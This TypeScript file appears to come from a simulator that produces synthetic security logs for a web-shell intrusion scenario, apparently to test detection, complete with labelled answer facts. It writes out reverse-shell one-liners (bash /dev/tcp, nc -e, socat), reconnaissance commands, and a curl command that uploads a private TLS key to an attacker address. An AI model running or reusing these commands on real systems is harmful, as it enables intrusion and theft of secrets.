import { touch } from "../events/file-event.ts";
import { connect } from "../events/network-event.ts";
import type { SocketSpec } from "../events/network-event.ts";
import { daemon, run } from "../events/process-event.ts";
import type { Process } from "../events/audit-event.ts";
import { listedConnection } from "../events/threat-intel-event.ts";
import type { Host } from "../hosts.ts";
import { PARTNERS } from "../routine/application-traffic.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { atHost, wait } from "../scene.ts";
import type { Scene, Script, Stage } from "../scene.ts";
import { HOUR_MS, MINUTE_MS } from "../../seeded/time.ts";
import { serviceAccount } from "../unix-account.ts";
import { backdrop, momentOf, phase } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly host: Host;
  readonly ip: string;
  readonly port: number;
  readonly shellFile: string;
  /** The command line that opens the reverse shell. */
  readonly line: string;
  readonly program: string;
  readonly secret: string;
}

const WWW = serviceAccount("www-data");

/** A program uploaded through a web form runs commands, then calls home. */
export function webShell({ world, random, start }: StoryOptions): Story {
  const id = "web-shell";
  const ip = strangerAddress(random);
  const port = random.pick([4444, 9001, 8443, 53]);
  const [program, line] = random.pick([
    ["bash", `bash -i >& /dev/tcp/${ip}/${port} 0>&1`],
    ["nc", `nc -e /bin/sh ${ip} ${port}`],
    ["socat", `socat exec:sh,pty,stderr tcp:${ip}:${port}`],
  ] as const);
  const cast: Cast = {
    host: random.pick(world.hostsOf("web")),
    ip,
    port,
    program,
    line,
    shellFile: `/var/www/html/uploads/${random.pick(["avatar", "cv_final", "thumb", "invoice"])}${random.int(2, 99)}.php`,
    secret: random.pick(["/etc/ssl/private/site.key", "/etc/ssl/private/wildcard.key"]),
  };
  const reverseAt = start + random.int(12, 30) * MINUTE_MS;
  return {
    outcome: {
      id,
      verdict: "attack",
      summary: `A web shell ${cast.shellFile} on ${cast.host.name} opened a reverse shell to ${ip}`,
      facts: [
        { kind: "object", text: cast.shellFile },
        { kind: "address", text: ip },
        { kind: "user", text: WWW.user },
        { kind: "host", text: cast.host.name },
        { kind: "tool", text: `/usr/bin/${program}` },
        { kind: "object", text: cast.secret },
        { kind: "time", text: momentOf(reverseAt) },
      ],
    },
    activities: [
      backdrop(id, { name: "thumbnails", start: start - 90 * MINUTE_MS }, (stage) =>
        makeThumbnails(stage, cast),
      ),
      backdrop(id, { name: "partners", start: start - 2 * HOUR_MS }, (stage) =>
        askPartners(stage, cast),
      ),
      phase(id, { name: "upload", start }, (stage) => upload(stage, cast)),
      phase(id, { name: "call-home", start: reverseAt }, (stage) => callHome(stage, cast)),
    ],
  };
}

function fpm(scene: Scene): Process {
  return daemon(scene, "/usr/sbin/php-fpm8.1");
}

// What the site always does: it looks like the attack and is suppressed.
function* makeThumbnails(stage: Stage, { host }: Cast): Script {
  const scene = atHost(stage, host);
  for (let index = 0; index < 30; index += 1) {
    const argv = ["sh", "-c", "/usr/local/bin/rotate-thumbnails"];
    yield* run(scene, { as: WWW, exe: "/bin/sh", argv, parent: fpm(scene), cwd: "/var/www/html" });
    wait(stage, 2 * MINUTE_MS, 6 * MINUTE_MS);
  }
}

// The site asks its partners for prices and maps, request after request.
function* askPartners(stage: Stage, { host }: Cast): Script {
  const scene = atHost(stage, host);
  for (let index = 0; index < 220; index += 1) {
    yield connect(scene, { ...fpmSocket(scene), remote: stage.random.pick(PARTNERS) });
    wait(stage, 4000, 90_000);
  }
}

function fpmSocket(scene: Scene): Omit<SocketSpec, "remote"> {
  const parent = daemon(scene, "/usr/lib/systemd/systemd");
  return { as: WWW, process: fpm(scene), argv: ["php-fpm: pool www"], parent };
}

function* upload(stage: Stage, cast: Cast): Script {
  const scene = atHost(stage, cast.host);
  const argv = ["php-fpm: pool www"];
  for (const action of ["create", "modify"] as const) {
    yield touch(scene, { as: WWW, process: fpm(scene), argv, filename: cast.shellFile, action });
    wait(stage, 5, 40);
  }
  yield connect(scene, { ...fpmSocket(scene), remote: { ip: cast.ip, port: 80 } });
  for (const line of [
    "id",
    "uname -a",
    "cat /etc/passwd",
    "ls -la /var/www/html",
    "ip addr",
    "find / -perm -4000",
  ]) {
    wait(stage, 8000, 70_000);
    yield* viaShell(scene, line);
  }
}

// Each request to the web shell is a shell of its own that starts the program asked for.
function* viaShell(scene: Scene, line: string): Script<Process> {
  const cwd = "/var/www/html/uploads";
  const argv = ["sh", "-c", line];
  const shell = yield* run(scene, { as: WWW, exe: "/bin/sh", argv, parent: fpm(scene), cwd });
  wait(scene, 2, 20);
  const words = line.split(" ");
  return yield* run(scene, {
    as: WWW,
    exe: `/usr/bin/${words[0]}`,
    argv: words,
    parent: shell,
    cwd,
  });
}

function* callHome(stage: Stage, cast: Cast): Script {
  const { ip, port, line } = cast;
  const scene = atHost(stage, cast.host);
  const process = yield* viaShell(scene, line);
  const spec = { as: WWW, process, argv: line.split(" "), parent: fpm(scene) };
  yield connect(scene, { ...spec, remote: { ip, port } });
  yield listedConnection(scene, {
    as: WWW,
    process,
    ip,
    port,
    direction: "outbound",
    list: { source: "emerging-example", reason: "command and control", type: "c2" },
  });
  for (const words of [
    ["whoami"],
    ["cat", cast.secret],
    ["curl", "-F", `f=@${cast.secret}`, `http://${ip}/in`],
  ]) {
    wait(stage, 10_000, 80_000);
    const child = yield* run(scene, {
      as: WWW,
      exe: `/usr/bin/${words[0]}`,
      argv: words,
      parent: process,
      cwd: "/var/www/html/uploads",
    });
    if (words[0] === "cat") {
      yield touch(scene, {
        as: WWW,
        process: child,
        argv: words,
        filename: cast.secret,
        action: "open",
      });
    }
  }
}
